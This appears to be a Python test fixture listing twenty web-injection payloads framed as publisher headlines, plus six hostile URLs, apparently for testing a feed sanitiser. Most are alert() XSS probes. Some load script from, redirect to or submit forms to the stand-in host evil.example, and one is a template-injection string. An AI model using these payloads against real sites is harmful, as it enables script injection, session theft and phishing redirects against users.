"""Twenty headlines that a publisher, or somebody who writes as one, could send (F83)."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    "</title><script>alert(4)</script>",
    "</a></p></li><script>alert(5)</script>",
    '"><script>alert(6)</script>',
    "' onmouseover='alert(7)' x='",
    '" autofocus onfocus="alert(8)',
    "<iframe srcdoc='<script>alert(9)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example/><button>Continue</button></form>",
    "<!-- --!><img src=x onerror=alert(10)>",
    "<![CDATA[<script>alert(11)</script>]]>",
    "&lt;script&gt;alert(12)&lt;/script&gt;",
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(13)>",
)
ADDRESSES = (
    "javascript:alert(20)",
    "JaVaScRiPt:alert(21)",
    "data:text/html,<script>alert(22)</script>",
    "vbscript:msgbox(23)",
    "https://bbc.example@evil.example/",
    'https://bbc.example/"onmouseover="alert(24)',
)
